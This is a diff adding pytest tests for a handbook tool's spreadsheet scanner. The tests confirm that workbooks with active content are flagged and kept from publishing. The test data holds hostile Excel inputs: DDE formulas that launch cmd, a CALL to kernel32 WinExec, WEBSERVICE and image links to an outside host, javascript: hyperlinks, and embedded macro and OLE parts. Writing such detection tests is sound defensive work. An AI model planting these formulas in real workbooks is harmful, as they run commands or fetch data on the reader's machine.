@@ -1,0 +1,151 @@
+"""A workbook that somebody changed: nothing in it fetches or runs a thing at its reader's."""
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from handed import DAY, NAME, codes, publishes, workspace_at
+
+from handbook import parcel
+from handbook.cli import main
+from handbook.loading.workspace import open_workspace
+from handbook.pipeline.building import build
+from handbook.sheets.formulas import formula_fault
+from handbook.sheets.live import live_sheet
+
+Parts = dict[str, bytes]
+SHEET, TYPES = "xl/worksheets/sheet1.xml", "[Content_Types].xml"
+ARROWS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+@pytest.fixture(scope="module")
+def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return workspace_at(tmp_path_factory.mktemp("sheets"))
+
+
+@pytest.fixture(scope="module")
+def plain(root: Path) -> Parts:
+    return parcel.unpack((root / "output" / NAME / "KH-02.xlsx").read_bytes())
+
+
+def safe(address: str) -> bool:
+    return address.startswith(("https://", "mailto:")) or ":" not in address
+
+
+def cell(formula: str) -> Callable[[Parts], Parts]:
+    row = f'<row r="900"><c r="A900"><f>{formula}</f><v>1</v></c></row></sheetData>'
+    return lambda parts: {
+        **parts,
+        SHEET: parts[SHEET].replace(b"</sheetData>", row.encode()),
+    }
+
+
+def arrow(kind: str, target: str, part: str = "xl/_rels/odd.xml.rels") -> Callable[[Parts], Parts]:
+    text = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{ARROWS}/{kind}" Target="{target}" TargetMode="External"/>'
+        "</Relationships>"
+    )
+    return lambda parts: {**parts, part: text.encode()}
+
+
+def part(name: str, data: bytes) -> Callable[[Parts], Parts]:
+    return lambda parts: {**parts, name: data}
+
+
+def kind(new: bytes) -> Callable[[Parts], Parts]:
+    old = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+    return lambda parts: {**parts, TYPES: parts[TYPES].replace(old, new)}
+
+
+MACROS = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+TEMPLATE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"
+MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+LIVE = {
+    "dde": (cell("cmd|'/c calc'!A0"), "HB312"),
+    "webservice": (cell('_xlfn.WEBSERVICE("http://elders/"&amp;A1)'), "HB313"),
+    "call": (cell('CALL("kernel32","WinExec","JC","calc")'), "HB312"),
+    "picture": (arrow("image", "http://elders/x.png"), "HB313"),
+    "workbook": (arrow("externalLinkPath", "file:///\\\\elders\\x.xlsx"), "HB312"),
+    "script": (arrow("hyperlink", "javascript:x"), "HB313"),
+    "macros": (part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "HB312"),
+    "object": (part("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1"), "HB312"),
+    "macro kind": (kind(MACROS), "HB320"),
+    "template": (kind(TEMPLATE), "HB320"),
+    "link": (part("xl/x.xml", b"<externalLink " + MAIN + b"/>"), "HB312"),
+    "query": (part("xl/q.dat", b" " * 50 + b"<queryTable " + MAIN + b"/>"), "HB312"),
+    "wide": (part("xl/c.xml", "<?xml version='1.0'?><ddeLink/>".encode("utf-16")), "HB312"),
+    "entities": (part("xl/e.xml", b"<!DOCTYPE x [<!ENTITY y 'z'>]><x>&y;</x>"), "HB312"),
+}
+
+
+@pytest.mark.parametrize("name", LIVE)
+def test_what_fetches_or_runs_something_is_told(plain: Parts, name: str) -> None:
+    change, code = LIVE[name]
+    assert {each.code for each in live_sheet(change(plain), "KH-02.xlsx", safe)} == {code}
+
+
+def test_our_own_workbooks_and_ordinary_changes_are_no_fault(root: Path, plain: Parts) -> None:
+    for path in sorted((root / "output" / NAME).glob("*.xlsx")):
+        assert live_sheet(parcel.unpack(path.read_bytes()), path.name, safe) == ()
+    for change in (
+        cell("SUM(A1:A9)&amp;Tabel1[Kop|rest]"),
+        cell('HYPERLINK("https://elders.nl/","zie")'),
+        cell('IF(A1="a|b",1,VLOOKUP(A1,B:C,2,0))'),
+        arrow("hyperlink", "PP-01.docx"),
+        arrow("hyperlink", "mailto:anja@berk.nl"),
+        part("xl/drawings/drawing9.xml", b"<wsDr macro=''><sp macro=''/></wsDr>"),
+        part("xl/printerSettings/printerSettings1.bin", b"HP\0\0"),
+    ):
+        assert live_sheet(change(plain), "KH-02.xlsx", safe) == ()
+
+
+@pytest.mark.parametrize(
+    ("formula", "code"),
+    [
+        ("SUM(A1)", ""),
+        ('HYPERLINK("#Blad2!A1")', ""),
+        ('HYPERLINK("#"&B1,"zie")', ""),
+        ('"cmd|x"&A1', ""),
+        ('HYPERLINK("https://a.nl/"&A1)', "HB313"),
+        ("HYPERLINK(A1)", "HB313"),
+        ('HYPERLINK("javascript:x")', "HB313"),
+        ('_xlfn.IMAGE("https://a.nl/x.png")', "HB313"),
+        ("'cmd'|'/c calc'!A0", "HB312"),
+        ('REGISTER.ID("a","b")', "HB312"),
+        ('MSEXCEL|"\\..\\..\\cmd.exe"!A0', "HB312"),
+    ],
+)
+def test_a_formula_may_calculate_and_nothing_else(formula: str, code: str) -> None:
+    assert (formula_fault(formula, safe) or ("",))[0] == code
+
+
+def test_such_a_workbook_is_checked_and_never_published(
+    root: Path, tmp_path: Path, plain: Parts
+) -> None:
+    path, host = root / "output" / NAME / "KH-02.xlsx", tmp_path / "dms"
+    former = path.read_bytes()
+    path.write_bytes(parcel.pack(cell("cmd|'/c calc'!A0")(plain)))
+    told = publishes(root, str(host), drafts=True)
+    assert (told.exit_code, codes(told), (host / path.name).exists()) == (3, ["HB545"], False)
+    checked = CliRunner().invoke(main, ["-C", str(root), "check", NAME, "--output"])
+    assert (checked.exit_code, "HB312" in checked.output) == (1, True), checked.output
+    path.write_bytes(former)
+
+
+def test_a_workbook_that_excel_saved_is_told_at_build_and_status(tmp_path: Path) -> None:
+    root = workspace_at(tmp_path / "werk")
+    path = root / "output" / NAME / "KH-02.xlsx"
+    parts = parcel.unpack(path.read_bytes())
+    book = parts["xl/workbook.xml"].replace(b"</workbook>", b"<extLst/></workbook>")
+    path.write_bytes(parcel.pack({**parts, "xl/workbook.xml": book}))
+    [outcome] = build(open_workspace(root), today=DAY)
+    [kept] = [each for each in outcome.documents if each.path.endswith("KH-02.xlsx")]
+    assert [(each.code, each.weight) for each in kept.problems] == [("HB577", "let op")]
+    assert (kept.action, outcome.exit_code) == ("behouden", 0)
+    told = CliRunner().invoke(main, ["-C", str(root), "status", NAME])
+    assert (told.exit_code, "HB577" in told.output) == (0, True), told.output
+    path.rename(path.with_name("mijn KH-02.xlsx"))
+    [outcome] = build(open_workspace(root), today=DAY)
+    assert [each for each in outcome.documents if each.problems] == []
